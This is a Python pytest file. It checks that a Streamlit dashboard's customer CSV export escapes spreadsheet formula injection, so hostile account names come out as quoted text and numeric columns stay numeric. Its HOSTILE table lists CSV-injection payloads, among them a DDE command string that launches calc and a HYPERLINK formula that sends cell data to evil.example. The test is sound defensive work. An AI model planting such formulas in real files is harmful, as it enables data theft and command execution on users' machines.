"""The customer page's CSV download opened as a spreadsheet would: hostile account names come out as text
(a single quote in front), numbers as numbers (AppTest; the bytes are read where Streamlit stores them)."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING, Any

import pytest
import sqlalchemy as sa
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from pages_world import ROOT
from partner_model import customers, users
from partner_model.models import Customer

if TYPE_CHECKING:  # not imported at run time: run with tests/e2e, "conftest" may be that folder's module
    from conftest import World

PAGE = "pages/customers.py"
# Account names a spreadsheet would run as a formula, and the cell text the CSV must hold instead.
HOSTILE = {
    "=1+1": "'=1+1",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-1+1": "'-1+1",
    "@SUM(1+1)": "'@SUM(1+1)",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")':
        '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r'=1+1",  # a carriage return also breaks the line: the formula after it is quoted too
}


@pytest.fixture
def hostile_ids(world: World) -> dict[str, int]:
    """Acme's trial accounts named with each hostile value. The services trim what users type, so names
    starting with a tab or a carriage return are written straight to the table (as an import could)."""
    ids = {}
    with world.session() as s:
        alice = users.get_user(s, world.user_ids["partner_user"])
        for i, name in enumerate(HOSTILE):
            typed = name if name == name.strip() else f"Placeholder {i} Oy"
            trial = customers.create_trial(s, alice, company_name=typed, domain=f"hostile-{i}.example",
                                           framework="NIS2")
            if typed != name:
                s.execute(sa.update(Customer).where(Customer.id == trial.id).values(name=name))
                s.commit()
            ids[name] = trial.id
    return ids


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> list[bytes]:
    """Every CSV file the page hands to Streamlit's media storage (what the download button serves)."""
    stored: list[bytes] = []
    load = MemoryMediaFileStorage.load_and_get_id

    def spy(self: MemoryMediaFileStorage, path_or_data: Any, mimetype: str, *args: Any, **kwargs: Any) -> str:
        if mimetype == "text/csv" and isinstance(path_or_data, bytes):
            stored.append(path_or_data)
        return load(self, path_or_data, mimetype, *args, **kwargs)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", spy)
    return stored


def test_the_customers_csv_writes_hostile_names_as_text_and_numbers_as_numbers(world, hostile_ids, downloads):
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=30)
    at.session_state["user_id"] = world.user_ids["partner_user"]
    at.switch_page(PAGE).run()
    assert not at.exception
    at.button(key="customers_csv_prepare").click().run()
    assert not at.exception
    at.get_by_key("customers_csv_download")
    assert len(downloads) == 1
    data = downloads[0]
    assert data.startswith(b"\xef\xbb\xbf")  # the byte order mark, as before
    header, *rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    column = {name: header.index(name) for name in ("Customer ID", "Name", "Users", "Trial days left",
                                                     "Framework progress (%)", "Trial ends on")}
    by_id = {int(row[column["Customer ID"]]): row for row in rows}  # every id is a plain number
    for name, safe in HOSTILE.items():
        row = by_id[hostile_ids[name]]
        assert row[column["Name"]] == safe, name
        assert row[column["Users"]].isdigit() and row[column["Framework progress (%)"]].isdigit()
        assert row[column["Trial days left"]].isdigit()  # a count of days, not text
        assert row[column["Trial ends on"]][:2] == "20"  # an ISO date
    starts = {row[column["Name"]][:1] for row in rows}
    assert not starts & {"=", "+", "-", "@", "\t", "\r"}, "no name cell starts a formula"
